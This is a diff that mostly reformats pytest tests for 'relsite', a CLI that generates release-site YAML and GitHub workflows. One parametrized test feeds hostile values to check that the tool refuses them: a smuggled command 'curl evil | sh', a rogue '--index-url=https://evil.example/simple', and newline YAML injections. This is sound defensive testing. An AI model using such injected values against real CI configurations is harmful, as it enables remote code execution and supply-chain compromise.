@@ -19,8 +19,24 @@ from relsite.cli.install_spec import from_direct_url
 from .conftest import build
 from .support.commands import run_relsite
 
-SPECIAL_NAMES = ["Acme: IT", '"Quoted', "- Dash", "*Star", "@At", "A #b", "{owner}", "? q", "|pipe", "&anchor", "!tag", "%percent",
-                 "yes", "1.10", "null", "ü & <b>bold</b>"]
+SPECIAL_NAMES = [
+    "Acme: IT",
+    '"Quoted',
+    "- Dash",
+    "*Star",
+    "@At",
+    "A #b",
+    "{owner}",
+    "? q",
+    "|pipe",
+    "&anchor",
+    "!tag",
+    "%percent",
+    "yes",
+    "1.10",
+    "null",
+    "ü & <b>bold</b>",
+]
 
 
 def _run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
@@ -28,13 +44,21 @@ def _run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
 
 
 def _zizmor(*paths: Path) -> subprocess.CompletedProcess[str]:
-    return subprocess.run([str(Path(sys.executable).parent / "zizmor"), "--offline", "--persona=auditor", *map(str, paths)],
-                          capture_output=True, text=True)
+    return subprocess.run(
+        [str(Path(sys.executable).parent / "zizmor"), "--offline", "--persona=auditor", *map(str, paths)],
+        capture_output=True,
+        text=True,
+    )
 
 
 def _workflow_installs(folder: Path) -> set[str]:
-    return {step["env"]["RELSITE_SPEC"] for path in folder.glob("*.yml") for job in yaml.safe_load(path.read_text())["jobs"].values()
-            for step in job["steps"] if "RELSITE_SPEC" in step.get("env", {})}
+    return {
+        step["env"]["RELSITE_SPEC"]
+        for path in folder.glob("*.yml")
+        for job in yaml.safe_load(path.read_text())["jobs"].values()
+        for step in job["steps"]
+        if "RELSITE_SPEC" in step.get("env", {})
+    }
 
 
 # --- names --------------------------------------------------------------------------------------
@@ -50,8 +74,12 @@ def test_init_writes_valid_yaml_for_a_name_with_yaml_specials(name: str, tmp_pat
     assert check.returncode == 0, check.stdout
 
 
-@pytest.mark.parametrize("name", ["Acme\nsite_dir: /etc", "Bell\x07", "Tab\there", "Right\u202eleft", "Zero\u200bwidth"])
-def test_init_refuses_a_name_with_a_control_or_invisible_character_and_writes_nothing(name: str, tmp_path: Path) -> None:
+@pytest.mark.parametrize(
+    "name", ["Acme\nsite_dir: /etc", "Bell\x07", "Tab\there", "Right\u202eleft", "Zero\u200bwidth"]
+)
+def test_init_refuses_a_name_with_a_control_or_invisible_character_and_writes_nothing(
+    name: str, tmp_path: Path
+) -> None:
     result = _run("init", "--name", name, "--timezone", "UTC", cwd=tmp_path)
     assert result.returncode == 2
     assert "--name" in result.stderr and "control or invisible character" in result.stderr
@@ -70,7 +98,9 @@ NEW = ("new", "--service", "example-service", "--type", "minor", "--version", "1
 
 
 def test_new_keeps_an_environment_title_with_a_line_break_inside_its_comment(tmp_path: Path) -> None:
-    project = _portal(tmp_path, ("{name: test, title: Test,", '{name: test, title: "Test\\nstatus: closed\\nrisk: critical",'))
+    project = _portal(
+        tmp_path, ("{name: test, title: Test,", '{name: test, title: "Test\\nstatus: closed\\nrisk: critical",')
+    )
     result = _run(*NEW, "--title", "Checkout", cwd=project)
     assert result.returncode == 0, result.stdout + result.stderr
     data = yaml.safe_load((project / "releases" / "REL-2027-001.yaml").read_text())
@@ -90,7 +120,11 @@ def test_new_refuses_values_validate_would_refuse_and_writes_nothing(tmp_path: P
     before = sorted((project / "releases").iterdir())
     result = _run(*NEW, "--title", "Bell\x07", cwd=project)
     assert result.returncode == 1
-    assert "releases/REL-2027-001.yaml:" in result.stderr and "U+0007" in result.stderr and "was not written" in result.stderr
+    assert (
+        "releases/REL-2027-001.yaml:" in result.stderr
+        and "U+0007" in result.stderr
+        and "was not written" in result.stderr
+    )
     assert sorted((project / "releases").iterdir()) == before
 
 
@@ -108,11 +142,25 @@ def test_init_and_new_write_the_same_release_skeleton(tmp_path: Path) -> None:
     data = yaml.safe_load(example.read_text())
     prod = data["environments"]["prod"]["window"]["start"]
     day = (prod.date() if isinstance(prod, dt.datetime) else dt.datetime.fromisoformat(str(prod)).date()).isoformat()
-    result = _run("new", "--service", "example-service", "--type", "minor", "--title", data["title"], "--version", data["version"],
-                  "--prod-date", day, cwd=project)
+    result = _run(
+        "new",
+        "--service",
+        "example-service",
+        "--type",
+        "minor",
+        "--title",
+        data["title"],
+        "--version",
+        data["version"],
+        "--prod-date",
+        day,
+        cwd=project,
+    )
     assert result.returncode == 0, result.stderr
     made = (project / "releases" / example.name.replace("-001", "-002")).read_text()
-    without_intro = [line for line in example.read_text().replace("-001", "-002").splitlines() if "example release" not in line]
+    without_intro = [
+        line for line in example.read_text().replace("-001", "-002").splitlines() if "example release" not in line
+    ]
     assert made.splitlines() == without_intro
 
 
@@ -124,7 +172,9 @@ def _existing_site(tmp_path: Path) -> Path:
     (tmp_path / "handbook").mkdir()
     (tmp_path / "handbook" / "index.md").write_text("# Our handbook\n")
     (tmp_path / ".github" / "workflows").mkdir(parents=True)
-    (tmp_path / ".github" / "workflows" / "publish.yml").write_text("name: publish\non: {push: {tags: ['v*']}}\njobs: {}\n")
+    (tmp_path / ".github" / "workflows" / "publish.yml").write_text(
+        "name: publish\non: {push: {tags: ['v*']}}\njobs: {}\n"
+    )
     return tmp_path
 
 
@@ -137,7 +187,9 @@ def test_init_writes_its_publish_workflow_beside_the_projects_own(tmp_path: Path
     assert "actions/deploy-pages" in (project / ".github/workflows/relsite-publish.yml").read_text()
     assert "publish.yml is not relsite's: relsite's workflow is .github/workflows/relsite-publish.yml" in result.stdout
     flows = project / ".github/workflows"
-    assert _zizmor(*(flows / name for name in ("validate.yml", "pr-comment.yml", "relsite-publish.yml"))).returncode == 0
+    assert (
+        _zizmor(*(flows / name for name in ("validate.yml", "pr-comment.yml", "relsite-publish.yml"))).returncode == 0
+    )
 
 
 def test_the_workflows_follow_the_sites_docs_dir_and_site_dir(tmp_path: Path) -> None:
@@ -191,12 +243,18 @@ def test_init_run_again_without_a_terminal_claims_no_defaults_it_did_not_write(t
 # --- what the workflows install -----------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("spec", "requirement"), [
-    ("1.4.2", "relsite==1.4.2"),
-    ("https://files.example.com/relsite-1.4.2-py3-none-any.whl", "relsite @ https://files.example.com/relsite-1.4.2-py3-none-any.whl"),
-    ("git+https://github.com/relsite/relsite@v1.4.2", "relsite @ git+https://github.com/relsite/relsite@v1.4.2"),
-    ("relsite>=1.4,<2", "relsite<2,>=1.4"),
-])
+@pytest.mark.parametrize(
+    ("spec", "requirement"),
+    [
+        ("1.4.2", "relsite==1.4.2"),
+        (
+            "https://files.example.com/relsite-1.4.2-py3-none-any.whl",
+            "relsite @ https://files.example.com/relsite-1.4.2-py3-none-any.whl",
+        ),
+        ("git+https://github.com/relsite/relsite@v1.4.2", "relsite @ git+https://github.com/relsite/relsite@v1.4.2"),
+        ("relsite>=1.4,<2", "relsite<2,>=1.4"),
+    ],
+)
 def test_relsite_spec_sets_what_the_workflows_and_the_hook_install(spec: str, requirement: str, tmp_path: Path) -> None:
     result = _run("init", "--name", "A", "--timezone", "UTC", "--relsite-spec", spec, cwd=tmp_path)
     assert result.returncode == 0, result.stderr
@@ -206,26 +264,41 @@ def test_relsite_spec_sets_what_the_workflows_and_the_hook_install(spec: str, re
     assert _zizmor(tmp_path / ".github/workflows").returncode == 0
 
 
-@pytest.mark.parametrize("spec", ["requests==2.0", "--index-url=https://evil.example/simple", 'x"; curl evil | sh; "', "1.0\nrun: x", ""])
+@pytest.mark.parametrize(
+    "spec", ["requests==2.0", "--index-url=https://evil.example/simple", 'x"; curl evil | sh; "', "1.0\nrun: x", ""]
+)
 def test_relsite_spec_refuses_anything_but_relsite(spec: str, tmp_path: Path) -> None:
     result = _run("init", "--name", "A", "--timezone", "UTC", "--relsite-spec", spec, cwd=tmp_path)
     assert result.returncode == 2 and "--relsite-spec" in result.stderr
     assert list(tmp_path.iterdir()) == []
 
 
-@pytest.mark.parametrize(("direct_url", "expected"), [
-    (None, "relsite==0.3.0"),
-    ({"url": "https://github.com/relsite/relsite", "vcs_info": {"vcs": "git", "commit_id": "a" * 40, "requested_revision": "v0.3.0"}},
-     f"relsite @ git+https://github.com/relsite/relsite@{'a' * 40}"),
-    ({"url": "https://files.example.com/relsite-0.3.0-py3-none-any.whl", "archive_info": {"hashes": {"sha256": "0" * 64}}},
-     "relsite @ https://files.example.com/relsite-0.3.0-py3-none-any.whl"),
-    ({"url": "file:///home/me/relsite", "dir_info": {"editable": True}}, "relsite==0.3.0"),
-    ({"url": "file:///tmp/relsite-0.3.0-py3-none-any.whl", "archive_info": {}}, "relsite==0.3.0"),
-])
-def test_the_default_spec_is_where_relsite_was_installed_from_when_ci_can_reach_it(direct_url: dict[str, object] | None,
-                                                                                  expected: str) -> None:
+@pytest.mark.parametrize(
+    ("direct_url", "expected"),
+    [
+        (None, "relsite==0.3.0"),
+        (
+            {
+                "url": "https://github.com/relsite/relsite",
+                "vcs_info": {"vcs": "git", "commit_id": "a" * 40, "requested_revision": "v0.3.0"},
+            },
+            f"relsite @ git+https://github.com/relsite/relsite@{'a' * 40}",
+        ),
+        (
+            {
+                "url": "https://files.example.com/relsite-0.3.0-py3-none-any.whl",
+                "archive_info": {"hashes": {"sha256": "0" * 64}},
+            },
+            "relsite @ https://files.example.com/relsite-0.3.0-py3-none-any.whl",
+        ),
+        ({"url": "file:///home/me/relsite", "dir_info": {"editable": True}}, "relsite==0.3.0"),
+        ({"url": "file:///tmp/relsite-0.3.0-py3-none-any.whl", "archive_info": {}}, "relsite==0.3.0"),
+    ],
+)
+def test_the_default_spec_is_where_relsite_was_installed_from_when_ci_can_reach_it(
+    direct_url: dict[str, object] | None, expected: str
+) -> None:
     assert from_direct_url(json.dumps(direct_url) if direct_url else None, "0.3.0") == expected
-
 
 
 def test_init_refuses_a_name_validate_refuses_with_the_problem_and_writes_nothing(tmp_path: Path) -> None:
